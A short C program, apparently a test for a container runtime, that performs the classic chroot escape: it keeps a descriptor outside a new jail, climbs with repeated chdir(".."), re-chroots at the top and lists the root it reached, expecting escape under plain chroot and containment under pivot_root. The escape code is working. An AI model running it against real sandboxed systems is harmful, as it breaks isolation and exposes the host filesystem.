/* The classic chroot escape, run as root inside a guest: chroot into a
 * subdirectory while keeping a descriptor (or the cwd) outside it, climb
 * with chdir(".."), then chroot(".") at the top. Under chroot(2) alone this
 * reaches the host's /; under pivot_root in a private mount namespace it
 * must stay inside the guest. Prints the names found at the top it reached. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    int outside = open(".", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/escape-jail", 0755);
    if (chroot("/tmp/escape-jail") != 0) perror("chroot jail");
    if (fchdir(outside) != 0) perror("fchdir");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) perror("chroot .");
    DIR *d = opendir("/");
    if (!d) { perror("opendir"); return 1; }
    struct dirent *e;
    while ((e = readdir(d))) printf("%s\n", e->d_name);
    return 0;
}
